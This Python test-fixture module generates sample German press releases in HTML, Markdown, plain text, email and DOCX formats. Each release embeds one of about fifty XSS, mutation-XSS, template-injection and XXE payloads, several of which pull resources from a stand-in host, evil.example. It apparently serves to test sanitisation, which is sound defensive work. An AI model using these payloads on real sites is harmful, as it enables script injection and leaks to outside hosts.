"""Releases of every format that carries markup, with text in them that would like to be a script."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections.abc import Callable, Mapping
from email.message import EmailMessage

# Each tries to set window.hit, to open a dialogue or to reach another host; %s is not used, nothing is filled in.
CASES = (
    "<script>window.hit=1</script>",
    "<SCRIPT SRC=//evil.example/a.js></SCRIPT>",
    "<script>window.hit=1//",
    "<scr<script>ipt>window.hit=1</scr</script>ipt>",
    '<img src=x onerror="window.hit=1">',
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>window.hit=1</script>">',
    '<img srcset="https://evil.example/a.png 2x" src="https://evil.example/b.png">',
    '<picture><source srcset="https://evil.example/c.webp"><img alt="x"></picture>',
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    '<svg><a xlink:href="javascript:window.hit=1"><text y="20">click</text></a></svg>',
    '<svg><animate onbegin="window.hit=1" attributeName="x" dur="1s"></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)>#x"></use></svg>',
    '<svg><style><img src="</style><img src=x onerror=window.hit=1>"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
    '<math href="javascript:window.hit=1">math</math>',
    '<noscript><p title="</noscript><img src=x onerror=window.hit=1>">',
    "<template><script>window.hit=1</script></template>",
    '<div><template shadowrootmode="open"><img src=x onerror=window.hit=1></template></div>',
    '<iframe src="javascript:parent.hit=1"></iframe>',
    '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
    '<object data="data:text/html,<script>parent.hit=1</script>"></object><embed src="javascript:window.hit=1">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<base href="https://evil.example/"><a href="/x">relative</a>',
    '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preload" as="image" href="//evil.example/p">',
    "<style>@import 'https://evil.example/b.css'; * { background: url(https://evil.example/bg.png) }</style>",
    '<p style="background:url(https://evil.example/s.png)" onmouseover="window.hit=1">styled</p>',
    '<a href="javascript:window.hit=1">click</a>',
    '<a href="&#106;ava&Tab;script&colon;window.hit=1">click</a>',
    '<a href=" \x01javascript:window.hit=1" ping="https://evil.example/ping">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5vcGVuZXIuaGl0PTE8L3NjcmlwdD4=">click</a>',
    '<form action="javascript:window.hit=1"><input autofocus onfocus="window.hit=1"><button>go</button></form>',
    '<details open ontoggle="window.hit=1"><summary>more</summary></details>',
    '<video poster="https://evil.example/v.png"><source onerror="window.hit=1" src="x"></video>',
    '<body onload="window.hit=1"><marquee onstart="window.hit=1">run</marquee>',
    '<x contenteditable onbeforeinput="window.hit=1" onfocus="window.hit=1" tabindex="1">edit</x>',
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/e'>]><x>&e;</x>",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
    "&#x3c;img src=x onerror=window.hit=1&#x3e;",
    "+ADw-script+AD4-window.hit=1+ADw-/script+AD4-",
    "[click](javascript:window.hit=1) and ![x](javascript:window.hit=1) and ![y](https://evil.example/md.png)",
    "<javascript:window.hit=1> and [ref]\n\n[ref]: data:text/html,<script>opener.hit=1</script>",
    "</title></textarea></style></script><script>window.hit=1</script>",
    "]]></content:encoded></item><script xmlns='http://www.w3.org/1999/xhtml'>window.hit=1</script>",
    "{{constructor.constructor('window.hit=1')()}} ${window.hit=1} <%= 1 %>",
    "<press-release src='https://evil.example/x.en.html'></press-release><script src='press.js'></script>",
    "\u202e<script>window.hit=1</script>\u202c \u2028 \u2029 <\x00script>window.hit=1</script>",
)

_LEAD = "Jena, 3. Mai 2023 – Der Verein Prüfstand e.V. hat am Mittwoch seine Werkstatt geöffnet, sagt Anna Berg."
_NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def _page(number: int, case: str) -> str:
    return (
        "<!doctype html><html lang=de><head><meta charset=utf-8><title>Prüffall</title></head><body><main>"
        f"<h1>Prüffall {number} {html.escape(case) if number % 2 else ''}</h1><p>{_LEAD}</p>"
        f"<blockquote>{case}</blockquote><p>Danach folgt noch ein Absatz.</p></main></body></html>"
    )


def _plain(number: int, case: str) -> str:
    return f"Prüffall {number} {' '.join(case.split())}\n\n{_LEAD}\n\n{case}\n\nDanach folgt noch ein Absatz.\n"


def _mail(number: int, case: str) -> bytes:
    message = EmailMessage()
    message["Subject"] = f"Pressemitteilung: Prüffall {number} {' '.join(_NOT_XML.sub('', case).split())[:60]}"
    message["From"] = "Presse <presse@pruefstand.example>"
    message["Date"] = "Wed, 03 May 2023 10:00:00 +0200"
    message.set_content("Bitte als HTML lesen.")
    message.add_alternative(_page(number, case), subtype="html")
    return message.as_bytes()


def _docx(number: int, case: str) -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    paragraphs = _NOT_XML.sub("", _plain(number, case)).split("\n\n")
    body = "".join(f"<w:p><w:r><w:t>{html.escape(text)}</w:t></w:r></w:p>" for text in paragraphs)
    kinds = "http://schemas.openxmlformats.org/package/2006/content-types"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    parts = {
        "[Content_Types].xml": f'<Types xmlns="{kinds}"><Default Extension="rels" ContentType="application/'
        'vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" '
        f'ContentType="{main}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{relations}"><Relationship Id="r1" Type="{office}" '
        'Target="word/document.xml"/></Relationships>',
        "word/document.xml": f"<w:document {space}><w:body>{body}</w:body></w:document>",
    }
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return packed.getvalue()


def _encoded(text: str) -> bytes:
    return text.encode("utf-8", "replace")


# A format's suffix → the bytes of a release with this number and this case in it.
FORMATS: Mapping[str, Callable[[int, str], bytes]] = {
    "html": lambda number, case: _encoded(_page(number, case)),
    "md": lambda number, case: _encoded("# " + _plain(number, case)),
    "txt": lambda number, case: _encoded(_plain(number, case)),
    "eml": _mail,
    "docx": _docx,
}
